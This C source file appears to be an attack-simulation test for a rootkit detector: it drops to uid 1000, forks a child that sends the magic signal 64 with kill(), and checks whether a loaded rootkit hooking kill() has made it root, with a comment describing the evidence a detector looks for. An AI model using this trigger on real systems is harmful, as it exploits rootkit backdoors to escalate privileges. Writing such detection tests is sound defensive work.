/*
 * rootme [SIGNAL]: privilege escalation through a rootkit's magic signal. A parent (comm "vk-rootparent")
 * drops to uid/gid 1000 and starts a child (comm "vk-rooted", uid 1000) that sends the magic signal
 * (default 64) with kill(); a rootkit hooking kill() then replaces the caller's credentials with root's.
 * The child checks that it now runs as uid 0 and stays alive.
 *
 * Evidence: a uid-0 process (all of uid/euid/suid/fsuid 0, full capabilities) whose parent runs as uid 1000
 * and whose executable is not set-uid: credentials that no exec or setuid() call produced.
 */
#include "common.h"
#include <grp.h>

static int magic = 64;

static void parent(int ready, void *arg)
{
	pid_t child;
	(void)arg;
	if (setgroups(0, NULL) < 0 || setresgid(1000, 1000, 1000) < 0 || setresuid(1000, 1000, 1000) < 0)
		attack_body_fail(ready, "drop to uid 1000");
	if (getuid() != 1000 || geteuid() != 1000)
		attack_body_fail(ready, "still uid %d", (int)getuid());
	child = fork();
	if (child < 0)
		attack_body_fail(ready, "fork");
	if (child == 0) {
		uid_t before = getuid();
		attack_set_comm("vk-rooted");
		/* Without the rootkit the signal would reach this process: ignore it. */
		signal(magic, SIG_IGN);
		if (kill(getpid(), magic) < 0)
			attack_body_fail(ready, "kill(%d, %d)", (int)getpid(), magic);
		if (getuid() != 0 || geteuid() != 0) {
			errno = 0;
			attack_body_fail(ready, "still uid %d after the magic signal %d (is the rootkit loaded?)",
					 (int)getuid(), magic);
		}
		attack_ready(ready, "pid=%d parent=%d uid_before=%d uid=%d euid=%d signal=%d", (int)getpid(),
			     (int)getppid(), (int)before, (int)getuid(), (int)geteuid(), magic);
		attack_linger();
	}
	close(ready);
	attack_linger();
}

int main(int argc, char **argv)
{
	char line[512];
	if (argc > 1)
		magic = atoi(argv[1]);
	if (magic < 1 || magic > 64) {
		fprintf(stderr, "rootme: bad signal %s\n", argv[1]);
		return 2;
	}
	if (attack_spawn("vk-rootparent", parent, NULL, line, sizeof line) < 0)
		attack_fail("rootkit-root", "%s", line);
	printf("ATTACK rootkit-root %s\n", line);
	return 0;
}
